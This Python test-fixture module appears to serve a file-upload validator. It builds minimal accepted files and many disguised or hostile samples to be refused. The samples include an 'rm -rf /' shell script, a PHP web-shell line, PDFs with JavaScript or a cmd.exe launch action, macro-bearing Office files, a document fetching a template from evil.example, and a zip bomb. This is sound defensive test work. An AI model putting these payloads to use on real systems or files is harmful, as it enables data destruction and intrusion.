"""The smallest files of each type that may be attached, and files that lie about what they are."""

import io
import struct
import zipfile
import zlib

OFFICE = "application/vnd.openxmlformats-officedocument."
PARTS = {
    "docx": ("word/document.xml", f"{OFFICE}wordprocessingml.document"),
    "xlsx": ("xl/workbook.xml", f"{OFFICE}spreadsheetml.sheet"),
    "pptx": ("ppt/presentation.xml", f"{OFFICE}presentationml.presentation"),
}
OPEN = {"odt": "application/vnd.oasis.opendocument.text", "ods": "application/vnd.oasis.opendocument.spreadsheet"}
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
EXE = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(64)
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(64)
SCRIPT = b"#!/bin/sh\nrm -rf /\n"


def pdf(body: bytes = b"", trailer: bytes = b"") -> bytes:
    """A PDF of one empty page, with more objects and more in its trailer."""
    return (
        b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\n"
        b"endobj\n3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>\nendobj\n"
        + body
        + b"trailer\n<</Root 1 0 R"
        b"/Size 4" + trailer + b">>\nstartxref\n9\n%%EOF\n"
    )


def object_stream(content: bytes, filters: bytes = b"/Filter/FlateDecode") -> bytes:
    """A stream that holds objects, packed."""
    packed = zlib.compress(content)
    return b"9 0 obj\n<</Type/ObjStm/N 1/First 4%b/Length %d>>stream\n%b\nendstream\nendobj\n" % (
        filters,
        len(packed),
        packed,
    )


def archive(parts: dict[str, bytes], *, stored: frozenset[str] = frozenset(), comment: bytes = b"") -> bytes:
    """A zip archive of these parts."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in parts.items():
            kind = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            file.writestr(zipfile.ZipInfo(name), content, compress_type=kind)
        file.comment = comment
    return made.getvalue()


def office(kind: str, more: dict[str, bytes] | None = None, *, main: str | None = None, types: str = "") -> bytes:
    """A document, workbook or presentation; `main` is the type its main part says, `types` more types of parts."""
    name, media_type = PARTS[kind]
    told = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/{name}" ContentType="{main or media_type + ".main+xml"}"/>{types}</Types>'
    )
    return archive({"[Content_Types].xml": told.encode(), "_rels/.rels": rels(), name: b"<a/>", **(more or {})})


def rels(kind: str = "officeDocument", target: str = "word/document.xml", mode: str = "Internal") -> bytes:
    """A part of one relationship."""
    of = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    one = f'<Relationship Id="r1" Type="{of}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return f"<Relationships>{one}</Relationships>".encode()


def open_document(kind: str, more: dict[str, bytes] | None = None) -> bytes:
    """An OpenDocument file."""
    parts = {"mimetype": OPEN[kind].encode(), "content.xml": b"<a/>", "META-INF/manifest.xml": b"<m/>"}
    return archive({**parts, **(more or {})}, stored=frozenset({"mimetype"}))


def png() -> bytes:
    """A white dot."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    body = chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00\xff")) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


def jpeg() -> bytes:
    """The frame of a picture."""
    app = b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    frame = b"\xff\xc0\x00\x0b\x08\x00\x01\x00\x01\x01\x01\x11\x00"
    return b"\xff\xd8" + app + frame + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00\x7f\xff\xd9"


LET_IN: dict[str, tuple[str, bytes]] = {
    "muistio.txt": ("text/plain", "Kuultiin nuoria. Hyvä näin.".encode()),
    "vanha.txt": ("text/plain", "Äidit ja isät".encode("cp1252")),
    "leveä.txt": ("text/plain", "Äidit ja isät".encode("utf-16")),
    "luvut.csv": ("text/csv", b"\xef\xbb\xbfkunta;lapsia\r\nKouvola;12 345\r\n"),
    "päätös.pdf": ("application/pdf", pdf(object_stream(b"1 0 <</Type/Font>>"))),
    "selvitys.docx": (PARTS["docx"][1], office("docx")),
    "taulukko.xlsx": (PARTS["xlsx"][1], office("xlsx")),
    "esitys.pptx": (PARTS["pptx"][1], office("pptx", {"ppt/embeddings/Sheet.xlsx": office("xlsx")})),
    "teksti.odt": (OPEN["odt"], open_document("odt")),
    "taulukko.ods": (OPEN["ods"], open_document("ods")),
    "kuva.png": ("image/png", png()),
    "kuva.jpg": ("image/jpeg", jpeg()),
    "kuva.jpeg": ("image/jpeg", jpeg() + b"what the camera adds"),
}
"""A name, its type and the file of it."""

_MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
_VBA = '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
_TEMPLATE = {"word/_rels/settings.xml.rels": rels("attachedTemplate", "https://evil.example/a.dotm", "External")}
REFUSED: dict[str, bytes] = {
    "nothing": b"",
    "a program of Windows": EXE,
    "a program of Linux": ELF,
    "a page": HTML,
    "a page after blanks": b" \r\n\t" + HTML,
    "a page after a mark of UTF-8": b"\xef\xbb\xbf" + HTML,
    "a page in UTF-16": HTML.decode().encode("utf-16"),
    "a picture that is a program": SVG,
    "a picture with an XML declaration": b'<?xml version="1.0"?>' + SVG,
    "a script": SCRIPT,
    "PHP": b"<?php system($_GET['a']);",
    "RTF": b"{\\rtf1 a}",
    "PostScript": b"%!PS-Adobe-3.0",
    "a message": b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n",
    "text with a NUL": b"abc\x00def",
    "text with an escape": b"abc\x1b[2Jdef",
    "bytes that are no text": bytes(range(128, 160)),
    "text with an identity code": b"Lapsi 010190-950A kertoi",
    "an old document": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
    "GIF": b"GIF89a" + bytes(20),
    "a PDF that is cut off": pdf()[:-20],
    "a PDF with a page after it": pdf() + HTML,
    "a PDF with an archive after it": pdf() + archive({"a": b"a"}),
    "a PDF whose end is in an archive's comment": pdf()[:-6] + archive({"a": b"a"}, comment=b"%%EOF"),
    "a PDF after something else": b"\n" + pdf(),
    "a PDF with a script": pdf(b"4 0 obj\n<</S/JavaScript/JS(app.alert)>>\nendobj\n"),
    "a PDF with a script under another spelling": pdf(b"4 0 obj\n<</S/J#61vaScript/JS(a)>>\nendobj\n"),
    "a PDF with a script among packed objects": pdf(object_stream(b"1 0 <</S/JavaScript/JS(a)>>")),
    "a PDF with packed objects under another spelling": pdf(
        object_stream(b"1 0 <</S/JavaScript/JS(a)>>").replace(b"/ObjStm", b"/Obj#53tm")
    ),
    "a PDF with objects packed in another way": pdf(object_stream(b"1 0 <<>>", b"/Filter[/LZWDecode]")),
    "a PDF with packed objects that are damaged": pdf(object_stream(b"1 0 <<>>").replace(b"\nx\x9c", b"\nxx")),
    "a PDF with packed objects that are cut off": pdf(
        b"9 0 obj\n<</Type/ObjStm/Filter/FlateDecode>>stream\n%bendstream\nendobj\n" % zlib.compress(bytes(999))[:-6]
    ),
    "a PDF that starts a program": pdf(b"4 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n"),
    "a PDF with a file inside": pdf(b"4 0 obj\n<</Type/EmbeddedFile>>stream\na\nendstream\nendobj\n"),
    "a PDF with a form of scripts": pdf(b"4 0 obj\n<</XFA [(a) 5 0 R]>>\nendobj\n"),
    "a PDF with a password": pdf(trailer=b"/Encrypt 5 0 R"),
    "a document with macros": office("docx", main=_MACRO),
    "a document with a macro project": office("docx", {"word/vbaProject.bin": b"a"}),
    "a document with a macro project under another name": office("docx", {"word/x.bin": b"a"}, types=_VBA),
    "a workbook with an old macro sheet": office(
        "xlsx", types='<Override PartName="/a" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
    ),
    "a document with a control": office("docx", {"word/activeX/activeX1.xml": b"<a/>"}),
    "a document with an object": office("docx", {"word/embeddings/oleObject1.bin": b"a"}),
    "a document with macros inside": office("docx", {"word/embeddings/a.docx": office("docx", main=_MACRO)}),
    "a document within a document within a document": office(
        "docx", {"word/embeddings/a.docx": office("docx", {"word/embeddings/a.docx": office("docx")})}
    ),
    "a document that fetches its template": office("docx", _TEMPLATE),
    "a document of two kinds": office(
        "docx", types=f'<Override PartName="/a" ContentType="{PARTS["xlsx"][1]}.main+xml"/>'
    ),
    "a document type definition": archive(
        {"[Content_Types].xml": b'<!DOCTYPE a [<!ENTITY b "c">]><Types><Override ContentType="&b;"/></Types>'}
    ),
    "an open document with macros": open_document("odt", {"Basic/Standard/Module1.xml": b"<a/>"}),
    "an open document with scripts": open_document("odt", {"Scripts/python/a.py": b"a"}),
    "an open document with a password": open_document(
        "odt", {"META-INF/manifest.xml": b'<m xmlns:manifest="a"><manifest:encryption-data/></m>'}
    ),
    "an open document of another type": open_document("odt", {"mimetype": b"application/vnd.oasis.opendocument.base"}),
    "an archive": archive({"a.txt": b"a"}),
    "an archive with a page before it": HTML + office("docx"),
    "an archive with a page after it": office("docx") + HTML,
    "a bomb": office("docx", {"word/media/a.bmp": bytes(30 * 1024 * 1024)}),
    "a damaged archive": office("docx").replace(b"<a/>", b"<b/>")[:-4],
    "a picture with something after it": png() + HTML,
    "a picture with an archive after it": jpeg() + archive({"a": b"a"}),
    "the beginning of a picture": png()[:20],
    "the beginning of a photograph": jpeg()[:10],
}
"""What is not let in, whatever it is called."""
